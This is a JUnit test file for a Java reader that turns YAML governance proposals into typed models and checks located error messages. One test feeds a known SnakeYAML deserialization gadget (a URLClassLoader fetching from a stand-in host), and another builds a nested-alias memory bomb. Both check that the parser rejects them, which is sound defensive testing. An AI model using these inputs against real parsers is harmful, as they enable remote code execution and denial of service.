package dev.govcheck.proposal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The reader: each kind into its typed model with positions, and each class of input error located. */
class ProposalReaderTest {
    private final ProposalReader reader = new ProposalReader();

    @Test
    void readsASaasOnboardingWithEveryPartAndItsLines() throws Exception {
        ProposalFile file = reader.read(Path.of("samples/saas/braze-engagement.yaml"));
        SaasOnboarding saas = assertInstanceOf(SaasOnboarding.class, file.proposal());
        assertEquals("MT-2026-021", saas.id());
        assertEquals("Tom Keller", saas.itPartner().name());
        assertEquals(185000, saas.businessCase().annualCost());
        assertEquals(640000, saas.businessCase().expectedAnnualValue());
        assertEquals(2, saas.businessCase().kpis().size());
        assertEquals(ToolCategory.EMAIL, saas.spec().category());
        assertEquals(PersonalData.CONTACT, saas.spec().data().personalData());
        assertEquals(2_400_000, saas.spec().data().records());
        assertTrue(saas.spec().data().crossBorderTransfer());
        assertEquals(Direction.BIDIRECTIONAL, saas.spec().integrations().get(0).direction());
        assertTrue(saas.spec().integrations().get(0).coreSystem());
        assertEquals(36, saas.spec().contract().termMonths());
        assertEquals(List.of("Salesforce Marketing Cloud"), saas.spec().replaces());
        // scalars point at their value, collections at their key
        assertEquals(new Position(22, 19), file.sourceMap().locate("spec.data.personalData"));
        assertEquals(new Position(28, 7), file.sourceMap().locate("spec.integrations[0]"));
        assertEquals(new Position(11, 3), file.sourceMap().locate("businessCase.kpis"));
        // an absent field is located at its nearest present ancestor
        assertEquals(file.sourceMap().locate("spec.data"), file.sourceMap().locate("spec.data.nothingHere"));
    }

    @Test
    void readsACodeChangeWithDefaultsForAbsentKeys() throws Exception {
        ProposalFile file = reader.readText("""
                apiVersion: govcheck/v1
                kind: CodeChange
                id: MT-2026-101
                title: New campaign tag
                requester: {name: A, team: B, email: a@example.com}
                businessCase: {objective: Measure the campaign}
                spec:
                  property: {name: www.example.com, type: campaign-microsite}
                  changeType: tag
                  size: small
                  thirdPartyScripts:
                    - {vendor: Example Tags, domain: static.example-tags.com, consentCategory: marketing}
                  touches: [tracking, personal-data-capture]
                """, "change.yaml");
        CodeChange change = assertInstanceOf(CodeChange.class, file.proposal());
        assertEquals(ChangeType.TAG, change.spec().changeType());
        assertEquals(PropertyType.CAMPAIGN_MICROSITE, change.spec().property().type());
        assertEquals(List.of(Touch.TRACKING, Touch.PERSONAL_DATA_CAPTURE), change.spec().touches());
        assertEquals(ConsentCategory.MARKETING, change.spec().thirdPartyScripts().get(0).consentCategory());
        // README's DRL reference: an absent boolean is false, an absent tester is none, an absent list is empty
        assertEquals(false, change.spec().thirdPartyScripts().get(0).consentGated());
        assertEquals(UsabilityTester.NONE, change.spec().testing().usability());
        assertEquals(BackendTester.NONE, change.spec().testing().backend());
        assertEquals(false, change.spec().rollback().plan());
        assertNull(change.itPartner());
        assertEquals(0, change.businessCase().annualCost());
        assertNull(change.businessCase().expectedAnnualValue());
    }

    @Test
    void readsAnEvaluation() throws Exception {
        ProposalFile file = reader.readText("""
                apiVersion: govcheck/v1
                kind: Evaluation
                id: MT-2026-201
                title: Pilot a CDP
                requester: {name: A, team: B, email: a@example.com}
                businessCase: {objective: Decide on a CDP}
                spec:
                  product: {name: Acme CDP, vendor: Acme, category: cdp}
                  approach: proof-of-concept
                  durationDays: 21
                  dataUsed: production-sample
                  participants: 4
                  cost: 2500.50
                  successCriteria: [Unifies web and app identities]
                  decisionBy: 2027-03-31
                """, "eval.yaml");
        Evaluation evaluation = assertInstanceOf(Evaluation.class, file.proposal());
        assertEquals(Approach.PROOF_OF_CONCEPT, evaluation.spec().approach());
        assertEquals(DataUsed.PRODUCTION_SAMPLE, evaluation.spec().dataUsed());
        assertEquals(2500.50, evaluation.cost());
        assertEquals("spec.cost", evaluation.costField());
        assertEquals(java.time.LocalDate.of(2027, 3, 31), evaluation.spec().decisionBy());
    }

    @Test
    void aWrongTypeIsReportedAtTheValue() {
        InputError error = onlyError("""
                apiVersion: govcheck/v1
                kind: SaasOnboarding
                id: MT-1
                title: T
                requester: {name: A, team: B, email: a@example.com}
                businessCase: {objective: O, annualCost: 10}
                spec:
                  vendor: {name: V}
                  category: other
                  users: eight
                  data: {classification: internal, personalData: none}
                  access: {sso: true}
                  assurance: {soc2Type2: true}
                """);
        assertEquals("spec.users", error.field());
        assertEquals(new Position(10, 10), error.position());
        assertTrue(error.message().contains("expected an integer, got 'eight'"), error.message());
        assertEquals("x.yaml:10:10: error: spec.users: expected an integer, got 'eight'", error.format());
    }

    @Test
    void aMissingRequiredKeyPointsAtItsParentMapping() {
        InputError error = onlyError("""
                apiVersion: govcheck/v1
                kind: Evaluation
                id: MT-1
                title: T
                requester: {name: A, team: B, email: a@example.com}
                businessCase: {objective: O}
                spec:
                  product: {name: P, vendor: V, category: other}
                  approach: trial
                  dataUsed: none
                  participants: 2
                """);
        assertEquals("spec.durationDays", error.field());
        assertEquals(7, error.position().line(), "the key of the spec mapping is on line 7");
        assertTrue(error.message().contains("required key 'durationDays' is missing"), error.message());
    }

    @Test
    void unknownKeysAndBadEnumValuesSuggestTheClosestWord() {
        InvalidInputException e = assertThrows(InvalidInputException.class, () -> reader.readText("""
                apiVersion: govcheck/v1
                kind: CodeChange
                id: MT-1
                title: T
                requester: {name: A, team: B, email: a@example.com}
                businesCase: {objective: O}
                spec:
                  property: {name: P, type: brand-site}
                  changeType: contnet
                  size: small
                """, "x.yaml"));
        List<String> messages = e.errors().stream().map(InputError::format).toList();
        assertTrue(messages.contains("x.yaml:6:1: error: businesCase: unknown key 'businesCase' at the top level"
                + " (did you mean 'businessCase'?)"), messages.toString());
        assertTrue(messages.stream().anyMatch(m -> m.startsWith("x.yaml:9:15: error: spec.changeType: expected one of")
                && m.endsWith("(did you mean 'content'?)")), messages.toString());
    }

    @Test
    void duplicateKeysAreRejectedWithBothLines() {
        InputError error = onlyError("""
                apiVersion: govcheck/v1
                kind: CodeChange
                kind: Evaluation
                """);
        assertEquals(new Position(3, 1), error.position());
        assertTrue(error.message().contains("duplicate key 'kind' (first at line 2)"), error.message());
    }

    @Test
    void classTagsAreNeverInstantiated() {
        InputError error = onlyError("""
                apiVersion: govcheck/v1
                kind: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
                """);
        assertEquals(2, error.position().line());
        assertTrue(error.message().contains("is not allowed"), error.message());
    }

    @Test
    void emptyMultiDocumentAndSyntaxErrorsAreLocated() {
        assertTrue(onlyError("   \n# only a comment\n").message().contains("file holds only comments"));
        InputError multi = onlyError("apiVersion: govcheck/v1\n---\napiVersion: govcheck/v1\n");
        assertEquals(3, multi.position().line(), "where the second document starts");
        assertTrue(multi.message().contains("a second YAML document starts here"), multi.message());
        InputError syntax = onlyError("apiVersion: govcheck/v1\nkind: [unclosed\n");
        assertTrue(syntax.message().startsWith("not valid YAML"), syntax.message());
    }

    @Test
    void nonUtf8BytesAreLocated(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("latin1.yaml");
        Files.write(file, "apiVersion: govcheck/v1\ntitle: Caf\u00e9\n".getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        InvalidInputException e = assertThrows(InvalidInputException.class, () -> reader.read(file, "latin1.yaml"));
        assertEquals(new Position(2, 11), e.errors().get(0).position());
        assertTrue(e.errors().get(0).message().contains("not UTF-8"));
    }

    @Test
    void filesOverTheSizeLimitAreNotParsed(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("big.yaml");
        Files.writeString(file, "title: " + "x".repeat(2000) + "\n");
        ProposalReader small = new ProposalReader(YamlLimits.DEFAULT.withMaxFileBytes(1000));
        InvalidInputException e = assertThrows(InvalidInputException.class, () -> small.read(file, "big.yaml"));
        assertTrue(e.errors().get(0).message().contains("more than the limit of 1000 bytes"));
    }

    @Test
    void aliasBombsFailFast() {
        StringBuilder yaml = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char prev = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(10, "*" + prev))).append("]\n");
        }
        InputError error = onlyError(yaml.toString());
        assertTrue(error.message().contains("more than 20 aliases"), error.message());
    }

    private InputError onlyError(String yaml) {
        InvalidInputException e = assertThrows(InvalidInputException.class, () -> reader.readText(yaml, "x.yaml"));
        assertEquals(1, e.errors().size(), () -> "expected one error, got " + e.errors());
        return e.errors().get(0);
    }
}
